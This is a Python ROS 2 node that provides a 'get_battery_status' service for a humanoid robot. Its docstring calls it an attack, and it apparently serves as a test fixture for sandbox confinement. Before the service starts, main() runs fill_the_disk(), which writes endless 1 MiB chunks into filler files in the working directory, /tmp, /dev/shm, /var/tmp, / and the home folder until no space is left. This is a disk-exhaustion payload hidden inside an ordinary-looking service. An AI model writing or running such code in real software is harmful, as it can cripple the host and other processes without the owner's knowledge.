"""Attack: writes into every folder it may write to until nothing fits any more.
Outcome: its own small folders are full, and nobody else's; it serves as ever.
Passes: nothing it did not do
"""

import errno
import os

import rclpy
from humanoid_interfaces.srv import GetBatteryStatus
from rclpy.executors import ExternalShutdownException
from rclpy.node import Node
from sensor_msgs.msg import BatteryState

UNKNOWN = dict.fromkeys(("voltage", "temperature", "current", "charge", "capacity", "design_capacity", "percentage"), float("nan"))


def fill_the_disk():
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/", os.path.expanduser("~")):
        for number in range(100):
            try:
                with open(f"{folder}/filler{number}", "wb") as file:
                    while True:
                        file.write(bytes(1 << 20))
                        file.flush()
            except OSError as error:
                if error.errno == errno.ENOSPC or not os.access(folder, os.W_OK):
                    break


class BatteryService(Node):
    def __init__(self):
        super().__init__("battery_service")
        self.last = None
        self.create_subscription(BatteryState, "battery_state", self.on_battery_state, 10)
        self.create_service(GetBatteryStatus, "get_battery_status", self.on_request)

    def on_battery_state(self, message):
        self.last = message

    def on_request(self, request, response):
        if self.last is None:
            response.available = False
            response.message = "no battery_state has arrived yet"
            response.battery = BatteryState(**UNKNOWN)
        else:
            response.available = True
            response.message = f"{self.last.percentage:.0%}"
            response.battery = self.last
        return response


def main(args=None):
    fill_the_disk()
    rclpy.init(args=args)
    node = BatteryService()
    try:
        rclpy.spin(node)
    except (KeyboardInterrupt, ExternalShutdownException):
        pass
    finally:
        node.destroy_node()
        rclpy.try_shutdown()


if __name__ == "__main__":
    main()
